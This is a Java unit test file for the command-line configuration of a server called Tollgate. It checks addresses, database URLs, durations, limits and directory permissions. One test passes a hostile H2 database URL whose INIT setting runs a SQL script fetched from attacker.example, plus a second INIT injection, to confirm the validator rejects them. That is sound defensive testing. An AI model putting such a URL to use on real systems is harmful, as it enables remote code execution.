package dev.tollgate.app;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import picocli.CommandLine;

class ServeCommandTest {

  @TempDir
  Path directory;

  private ServerConfig config(String... args) {
    ServeCommand serve = new ServeCommand();
    CommandLine commandLine = new CommandLine(serve);
    commandLine.parseArgs(args);
    return serve.config();
  }

  @Test
  void defaults_config_isLoopback8091AndH2InTheDataDirectory() {
    ServerConfig config = config("--data-dir", directory.toString());

    assertThat(config.listen().getHostString()).isEqualTo("127.0.0.1");
    assertThat(config.listen().getPort()).isEqualTo(8091);
    assertThat(config.database().jdbcUrl()).startsWith("jdbc:h2:file:" + directory.resolve("tollgate"))
        .contains("RETENTION_TIME=0");
    assertThat(config.tls()).isInstanceOf(ServerConfig.Tls.Disabled.class);
    assertThat(config.oauth()).isEmpty();
  }

  @Test
  void ipv6AndPostgres_config_areRead() {
    ServerConfig config = config("--data-dir", directory.toString(), "--listen", "[::1]:9000",
        "--database-url", "jdbc:postgresql://db:5432/tollgate?password=hunter2");

    assertThat(config.listen().getAddress().isLoopbackAddress()).isTrue();
    assertThat(config.listen().getPort()).isEqualTo(9000);
    assertThat(config.database().isPostgres()).isTrue();
    assertThat(config.database().describe()).doesNotContain("hunter2");
    assertThat(config.database().toString()).doesNotContain("hunter2");
  }

  @Test
  void unsupportedDatabase_config_isRefusedNamingIt() {
    assertThatThrownBy(() -> config("--data-dir", directory.toString(), "--database-url",
        "jdbc:mysql://db/tollgate"))
        .hasMessageContaining("jdbc:mysql://db/tollgate is not supported");
  }

  @Test
  void badPortAndTlsCombinations_config_areRefused() {
    assertThatThrownBy(() -> config("--data-dir", directory.toString(), "--listen", "host:99999"))
        .hasMessage("--listen \"host:99999\": port 99999 is out of range; expected 0 to 65535"
            + " (0: any free port)");
    assertThatThrownBy(() -> config("--data-dir", directory.toString(), "--listen", "8091"))
        .hasMessageContaining("is not an address; expected HOST:PORT");
    assertThatThrownBy(() -> config("--data-dir", directory.toString(), "--tls-self-signed",
        "--tls-cert", "a.pem")).hasMessageContaining("cannot be combined");
  }

  @Test
  void followingIntervals_config_defaultTo200msAnd5mAndReadGoDurations() {
    assertThat(config("--data-dir", directory.toString()).following())
        .isEqualTo(ServerConfig.Following.defaults());
    assertThat(config("--data-dir", directory.toString(), "--poll-interval", "50ms",
        "--reconcile-interval", "1m30s", "--purge-revoked-after", "720h").following())
        .isEqualTo(new ServerConfig.Following(java.time.Duration.ofMillis(50),
            java.time.Duration.ofSeconds(90),
            java.util.Optional.of(java.time.Duration.ofHours(720))));
    assertThatThrownBy(() -> config("--data-dir", directory.toString(), "--poll-interval", "5"))
        .hasMessage("--poll-interval \"5\" is not a duration; use 5s");
    assertThatThrownBy(() -> config("--data-dir", directory.toString(), "--poll-interval", "5x"))
        .hasMessage("--poll-interval \"5x\" is not a duration; expected e.g. 30s, 1m0s, 1h30m or"
            + " 500ms");
  }

  @Test
  void logFormatAndMetrics_config_areCheckedBeforeAnythingIsWritten() {
    assertThat(config("--data-dir", directory.toString(), "--metrics-listen", "127.0.0.1:9091")
        .metricsListen()).hasValueSatisfying(address -> assertThat(address.getPort())
            .isEqualTo(9091));
    assertThatThrownBy(() -> config("--data-dir", directory.resolve("new").toString(),
        "--log-format", "yaml")).hasMessage("--log-format \"yaml\" is not a log format;"
            + " expected text or json");
    assertThatThrownBy(() -> config("--data-dir", directory.resolve("new").toString(),
        "--metrics-listen", "9091")).hasMessageStartingWith("--metrics-listen \"9091\" is not an"
            + " address");
    assertThat(directory.resolve("new")).doesNotExist();
  }

  @Test
  void lifetimePolicy_config_isOffByDefaultAndReadsDays() {
    assertThat(config("--data-dir", directory.toString()).limits().managementLifetime()).isEmpty();
    dev.tollgate.domain.model.Limits limits = config("--data-dir", directory.toString(),
        "--max-management-token-lifetime", "90d", "--max-database-token-lifetime", "8760h")
        .limits();
    assertThat(limits.managementLifetime()).contains(java.time.Duration.ofDays(90));
    assertThat(limits.databaseLifetime()).contains(java.time.Duration.ofDays(365));
    assertThatThrownBy(() -> config("--data-dir", directory.toString(),
        "--max-database-token-lifetime", "90")).hasMessage("--max-database-token-lifetime \"90\""
            + " is not a duration; use 90d for days");
  }

  @Test
  void requestLimits_config_defaultTo1000AndRefuseWhatIsNotAPositiveWholeNumber() {
    assertThat(config("--data-dir", directory.toString()).limits())
        .isEqualTo(dev.tollgate.domain.model.Limits.defaults());
    assertThat(config("--data-dir", directory.toString(), "--max-token-permissions", "10",
        "--max-revoke-ids", "20", "--max-authorize-permissions", "30").limits())
        .isEqualTo(new dev.tollgate.domain.model.Limits(10, 20, 30));
    assertThatThrownBy(() -> config("--data-dir", directory.toString(), "--max-revoke-ids", "0"))
        .hasMessage("--max-revoke-ids \"0\" is not a limit; expected a whole number of at least 1,"
            + " such as 1000");
    assertThatThrownBy(() -> config("--data-dir", directory.toString(),
        "--max-authorize-permissions", "lots")).hasMessageStartingWith(
            "--max-authorize-permissions \"lots\" is not a limit");
  }

  @Test
  void h2DatabaseUrl_config_acceptsFileAndMemoryOnly_andOnlyKnownSafeSettings() {
    assertThat(config("--data-dir", directory.toString(), "--database-url",
        "jdbc:h2:mem:tollgate;DB_CLOSE_DELAY=-1").database().jdbcUrl())
        .isEqualTo("jdbc:h2:mem:tollgate;DB_CLOSE_DELAY=-1");
    assertThatThrownBy(() -> config("--data-dir", directory.toString(), "--database-url",
        "jdbc:h2:tcp://db/tollgate")).hasMessageContaining("is not supported; expected"
            + " jdbc:postgresql://HOST[:PORT]/DATABASE, jdbc:h2:file:PATH or jdbc:h2:mem:NAME");
    assertThatThrownBy(() -> config("--data-dir", directory.toString(), "--database-url",
        "jdbc:h2:mem:x;init=RUNSCRIPT FROM 'http://attacker.example/x.sql'"))
        .hasMessageContaining("sets INIT, which Tollgate does not accept; the H2 settings"
            + " Tollgate accepts are CACHE_SIZE, DB_CLOSE_DELAY,");
    assertThatThrownBy(() -> config("--data-dir", directory.resolve("new").toString(),
        "--database-url", "jdbc:h2:file:/tmp/x;\\INIT=CALL 1"))
        .hasMessageContaining("sets INIT, which Tollgate does not accept");
    assertThat(directory.resolve("new")).as("nothing written").doesNotExist();
  }

  @Test
  void callBudgets_config_defaultAndReadOptions() {
    assertThat(config("--data-dir", directory.toString()).calls())
        .isEqualTo(ServerConfig.Calls.defaults());
    assertThat(config("--data-dir", directory.toString(), "--max-authorize-calls", "500",
        "--max-management-calls", "8", "--max-calls-per-connection", "100",
        "--max-connection-idle", "1m", "--max-connection-age", "2h", "--max-resets-per-10s", "50",
        "--keepalive", "1m", "--keepalive-timeout", "5s", "--min-client-ping", "10s",
        "--request-timeout", "1500ms").calls())
        .isEqualTo(new ServerConfig.Calls(500, 8, 100, java.time.Duration.ofMinutes(1),
            java.time.Duration.ofHours(2), 50, java.time.Duration.ofMinutes(1),
            java.time.Duration.ofSeconds(5), java.time.Duration.ofSeconds(10),
            java.time.Duration.ofMillis(1500)));
    assertThatThrownBy(() -> config("--data-dir", directory.toString(),
        "--max-management-calls", "-1")).hasMessageStartingWith(
            "--max-management-calls \"-1\" is not a limit");
  }

  @Test
  void dataDirectoryOthersCanRead_config_closesItToTheOwner() throws Exception {
    java.nio.file.Path open = java.nio.file.Files.createDirectory(directory.resolve("open"));
    java.nio.file.Files.setPosixFilePermissions(open,
        java.nio.file.attribute.PosixFilePermissions.fromString("rwxr-xr-x"));

    config("--data-dir", open.toString());

    assertThat(java.nio.file.attribute.PosixFilePermissions.toString(
        java.nio.file.Files.getPosixFilePermissions(open))).isEqualTo("rwx------");
  }

  @Test
  void requestTimeout_config_defaultsToAFewSeconds_andABadOneIsNamed() {
    assertThat(config("--data-dir", directory.toString()).calls().requestTimeout())
        .isEqualTo(java.time.Duration.ofSeconds(5));
    assertThatThrownBy(() -> config("--data-dir", directory.toString(), "--request-timeout",
        "0.1ms")).hasMessageStartingWith("--request-timeout \"0.1ms\" is not a timeout; expected"
            + " a duration of at least 1ms, such as 5s");
    assertThatThrownBy(() -> config("--data-dir", directory.toString(), "--request-timeout",
        "soon")).hasMessageStartingWith("--request-timeout \"soon\"");
  }
}
